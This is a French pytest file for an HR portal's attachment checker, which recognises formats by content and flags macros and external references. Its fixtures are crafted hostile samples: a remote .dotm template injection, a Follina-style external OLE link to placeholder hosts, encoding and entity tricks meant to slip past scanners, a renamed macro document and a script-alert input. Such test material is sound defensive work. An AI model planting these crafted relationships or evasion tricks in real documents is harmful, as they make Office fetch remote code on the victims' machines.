"""Les pièces jointes sont reconnues par leur contenu, pas par leur nom."""

import io
import zipfile

import pytest

from rh_tpe.dossiers import fichiers


def archive(parties: dict[str, str | bytes]) -> bytes:
    """Une archive ZIP qui contient ces parties, dans cet ordre."""
    tampon = io.BytesIO()
    with zipfile.ZipFile(tampon, "w") as zip_:
        for nom, contenu in parties.items():
            zip_.writestr(nom, contenu)
    return tampon.getvalue()


DOCX_MINIMAL = {"[Content_Types].xml": "<Types/>", "word/document.xml": "<w:document/>"}
ODT_MINIMAL = {
    "mimetype": "application/vnd.oasis.opendocument.text",
    "content.xml": "<office:document-content/>",
}


def docx() -> bytes:
    return archive(DOCX_MINIMAL)


def odt() -> bytes:
    return archive(ODT_MINIMAL)


def docm_renomme() -> bytes:
    """Un document Word avec macros (.docm) renommé en .docx."""
    return archive(
        {
            **DOCX_MINIMAL,
            "[Content_Types].xml": (
                '<Types><Override PartName="/word/document.xml" ContentType="application/'
                'vnd.ms-word.document.macroEnabled.main+xml"/></Types>'
            ),
            "word/vbaProject.bin": b"\xd0\xcf\x11\xe0",
        }
    )


def odt_avec_basic() -> bytes:
    return archive({**ODT_MINIMAL, "Basic/Standard/Module1.xml": "<script:module/>"})


def docx_avec_partie(nom: str, contenu: str | bytes) -> bytes:
    return archive({**DOCX_MINIMAL, nom: contenu})


def docx_avec_relation(relation: str, partie: str = "word/_rels/settings.xml.rels") -> bytes:
    """Un DOCX dont une partie porte la relation donnée."""
    return docx_avec_partie(
        partie,
        '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/'
        f'package/2006/relationships">{relation}</Relationships>',
    )


# Un modèle .dotm distant, chargé par Word à l'ouverture (injection de modèle).
MODELE_DISTANT = docx_avec_relation(
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    'relationships/attachedTemplate" Target="https://exemple.invalid/modele.dotm" '
    'TargetMode="External"/>'
)
# Un objet OLE lié vers un serveur (l'attaque « Follina », CVE-2022-30190), guillemets simples.
OBJET_DISTANT = docx_avec_relation(
    "<Relationship Id='rId9' Type='http://schemas.openxmlformats.org/officeDocument/2006/"
    "relationships/oleObject' Target='http://exemple.invalid/x.html!' TargetMode='External'/>",
    partie="word/_rels/document.xml.rels",
)
# Un lien hypertexte vers un site est ordinaire.
LIEN_HYPERTEXTE = docx_avec_relation(
    '<Relationship Id="rId5" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    'relationships/hyperlink" Target="https://travail-emploi.gouv.fr" TargetMode="External"/>',
    partie="word/_rels/document.xml.rels",
)


_MODELE = (
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    'relationships/attachedTemplate" Target="{cible}" TargetMode="{mode}"/></Relationships>'
)
# Ce qu'un simple repérage d'octets laissait passer (revue du 26 novembre 2026).
DETOURNEMENTS = {
    "chevron dans la cible": docx_avec_partie(
        "word/_rels/settings.xml.rels",
        _MODELE.format(cible="https://x.invalid/a>b.dotm", mode="External").encode(),
    ),
    "référence de caractère": docx_avec_partie(
        "word/_rels/settings.xml.rels",
        _MODELE.format(cible="https://x.invalid/m.dotm", mode="&#69;xternal").encode(),
    ),
    "UTF-16": docx_avec_partie(
        "word/_rels/settings.xml.rels",
        (
            '<?xml version="1.0" encoding="UTF-16"?>'
            + _MODELE.format(cible="https://x.invalid/m.dotm", mode="External")
        ).encode("utf-16"),
    ),
    "nom en majuscules": docx_avec_partie(
        "word/_rels/settings.xml.RELS",
        _MODELE.format(cible="https://x.invalid/m.dotm", mode="External").encode(),
    ),
    "relation après un mégaoctet": docx_avec_partie(
        "word/_rels/settings.xml.rels",
        _MODELE.format(cible="https://x.invalid/m.dotm", mode="External")
        .replace("<Relationship ", "<!--" + "x" * 1_100_000 + "--><Relationship ")
        .encode(),
    ),
    "XML mal formé": docx_avec_partie("word/_rels/settings.xml.rels", b"<Relationships><oups"),
    "entité": docx_avec_partie(
        "word/_rels/settings.xml.rels",
        b'<!DOCTYPE r [<!ENTITY e "External">]>'
        + _MODELE.format(cible="https://x.invalid/m.dotm", mode="&e;").encode(),
    ),
}


@pytest.mark.parametrize("contenu", DETOURNEMENTS.values(), ids=DETOURNEMENTS.keys())
def test_un_renvoi_exterieur_deguise_est_refuse(contenu):
    assert fichiers.a_du_contenu_actif(io.BytesIO(contenu)) is True
    assert fichiers.format_reconnu(io.BytesIO(contenu)) is None


def docx_aux_mille_parties(parties: int) -> bytes:
    return archive(
        {**DOCX_MINIMAL, **{f"word/media/vide{numero}.bin": b"" for numero in range(parties)}}
    )


def zip_quelconque() -> bytes:
    return archive({"virus.exe": "MZ"})


@pytest.mark.parametrize(
    ("contenu", "attendu"),
    [
        (b"%PDF-1.7\n...", fichiers.PDF),
        (b"\x89PNG\r\n\x1a\n" + b"\0" * 20, fichiers.PNG),
        (b"\xff\xd8\xff\xe0" + b"\0" * 20, fichiers.JPEG),
        (docx(), fichiers.DOCX),
        (odt(), fichiers.ODT),
        (zip_quelconque(), None),
        (docm_renomme(), None),
        (odt_avec_basic(), None),
        (MODELE_DISTANT, None),
        (OBJET_DISTANT, None),
        (LIEN_HYPERTEXTE, fichiers.DOCX),
        (docx_aux_mille_parties(fichiers.PARTIES_MAX - 2), fichiers.DOCX),
        (docx_aux_mille_parties(fichiers.PARTIES_MAX - 1), None),
        (b"PK\x03\x04 archive tronquee", None),
        (b"<html><script>alert(1)</script></html>", None),
        (b"MZ\x90\x00", None),
        (b"", None),
    ],
)
def test_le_format_vient_du_contenu(contenu, attendu):
    assert fichiers.format_reconnu(io.BytesIO(contenu)) == attendu


@pytest.mark.parametrize(
    ("contenu", "attendu"),
    [
        (docm_renomme(), True),
        (odt_avec_basic(), True),
        (MODELE_DISTANT, True),
        (OBJET_DISTANT, True),
        (LIEN_HYPERTEXTE, False),
        (docx(), False),
        (odt(), False),
    ],
)
def test_les_macros_et_les_renvois_exterieurs_sont_reperes(contenu, attendu):
    assert fichiers.a_du_contenu_actif(io.BytesIO(contenu)) is attendu


def test_un_vrai_docx_du_portail_n_a_pas_de_macros():
    from rh_tpe.modeles.catalogue import type_document
    from rh_tpe.modeles.composition import composer
    from rh_tpe.modeles.docx import rendre_docx

    _nom, _mime, contenu = rendre_docx(composer("cdi", type_document("cdi").exemple).document)
    assert fichiers.a_du_contenu_actif(io.BytesIO(contenu)) is False
    assert fichiers.format_reconnu(io.BytesIO(contenu)) == fichiers.DOCX
